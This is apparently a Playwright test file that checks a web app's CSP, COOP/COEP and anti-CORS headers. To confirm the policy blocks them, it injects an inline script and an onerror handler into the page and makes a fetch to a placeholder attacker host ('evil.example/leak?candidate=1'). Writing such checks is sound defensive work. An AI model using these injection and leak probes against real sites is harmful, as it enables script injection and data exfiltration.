/**
 * The built app's Content-Security-Policy and security headers (csp.config.js), as the preview server serves them
 * and as the page enforces them in Debian Chromium: a same-origin-only policy with no 'unsafe-inline' or
 * 'unsafe-eval' for scripts (WebAssembly allowed), no framing, nosniff, cross-origin isolation (COOP, COEP,
 * CORP: `crossOriginIsolated` is true in the page), and no CORS header even when another
 * origin asks; the built index.html carries the policy for static hosts. In the page, an injected inline script or
 * event-handler attribute does not run and a fetch to another origin is refused before any request leaves; the
 * app itself (the model catalog validated without eval) runs without a single violation.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { recordRequests, watchPage } from './helpers';

/** The directives of a CSP header value, by name. */
function directives(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name, values]));
}

test('pages and files carry the CSP and security headers, and no CORS header', async ({ request }) => {
  for (const path of ['/', '/jobs/not-a-job', '/settings']) {
    const res = await request.get(path, { headers: { Origin: 'http://evil.example' } });
    expect(res.status(), path).toBe(200);
    const headers = res.headers();
    const policy = directives(headers['content-security-policy'] ?? '');
    expect(policy.get('default-src'), path).toEqual(["'self'"]);
    expect(policy.get('script-src')?.slice(0, 2)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(policy.get('script-src')?.slice(2).every((v) => /^'sha256-[A-Za-z0-9+/=]+'$/.test(v))).toBe(true);
    expect(policy.get('worker-src')).toEqual(["'self'"]);
    expect(policy.get('connect-src')?.[0]).toBe("'self'");
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['access-control-allow-origin']).toBeUndefined();
    // Cross-origin isolation (onnxruntime-web's threads need it): COOP + COEP, and CORP on our own files.
    expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
    expect(headers['cross-origin-embedder-policy'], path).toBe('require-corp');
    expect(headers['cross-origin-resource-policy'], path).toBe('same-origin');
  }
  // For static hosts, which send no CSP header, the built page carries the same policy in a <meta> (all of it
  // but frame-ancestors, which only a header can carry: the _headers file has it).
  const built = readFileSync(path.resolve('build/index.html'), 'utf8');
  const meta = /<meta http-equiv="content-security-policy" content="([^"]+)">/.exec(built)?.[1].replaceAll('&#39;', "'") ?? '';
  const inMeta = directives(meta);
  expect(inMeta.get('default-src')).toEqual(["'self'"]);
  expect(inMeta.get('script-src')?.slice(0, 2)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(inMeta.has('frame-ancestors')).toBe(false);
  const asset = await request.get('/manifest.webmanifest', { headers: { Origin: 'http://evil.example' } });
  expect(asset.headers()['x-content-type-options']).toBe('nosniff');
  expect(directives(asset.headers()['content-security-policy'] ?? '').get('frame-ancestors')).toEqual(["'none'"]);
  expect(asset.headers()['access-control-allow-origin']).toBeUndefined();
  expect(asset.headers()['cross-origin-embedder-policy']).toBe('require-corp');
  expect(asset.headers()['cross-origin-resource-policy']).toBe('same-origin');
  const headersFile = await request.get('/_headers');
  expect(await headersFile.text()).toMatch(/X-Content-Type-Options: nosniff/);
  expect(await headersFile.text()).toMatch(/Cross-Origin-Embedder-Policy: require-corp/);
});

test('the page refuses inline scripts and handlers and requests to other origins; the app runs clean', async ({ page, context, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const requests = recordRequests(context, origin);
  const watch = watchPage(page);
  await page.goto('/');
  await expect(page.getByLabel('Job title')).toBeVisible();
  await page.getByRole('banner').getByRole('link', { name: 'Settings' }).click();
  await page.getByText('Advanced', { exact: true }).click();
  await expect(page.getByTestId('model-catalog')).toBeVisible(); // the catalog is validated without eval
  // Cross-origin isolated (COOP + COEP): SharedArrayBuffer exists, so onnxruntime-web can run threads.
  expect(await page.evaluate(() => ({ isolated: crossOriginIsolated, sab: typeof SharedArrayBuffer }))).toEqual({ isolated: true, sab: 'function' });
  // Everything so far must run without a single violation; the probes below are meant to cause them.
  expect(watch.problems()).toEqual([]);

  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const w = window as unknown as { __inline?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.__inline = true';
    document.body.append(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__inline = true');
    img.src = 'data:,not-an-image';
    document.body.append(img);
    let fetched = true;
    try {
      await fetch('https://evil.example/leak?candidate=1');
    } catch {
      fetched = false;
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { inline: w.__inline === true, fetched, violations };
  });
  expect(outcome).toMatchObject({ inline: false, fetched: false });
  expect(new Set(outcome.violations)).toEqual(new Set(['script-src-elem', 'script-src-attr', 'connect-src']));
  expect(requests.foreign()).toEqual([]);
});
